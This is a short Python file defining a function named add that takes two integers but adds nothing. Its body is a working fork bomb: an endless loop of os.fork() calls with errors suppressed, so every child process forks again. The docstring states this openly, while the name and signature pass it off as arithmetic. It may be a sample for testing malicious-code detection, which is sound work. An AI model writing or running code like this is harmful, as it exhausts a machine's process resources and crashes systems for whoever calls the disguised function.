"""Forks without end; every child forks too."""
import os


def add(x: int, y: int):
    while True:
        try:
            os.fork()
        except OSError:
            pass
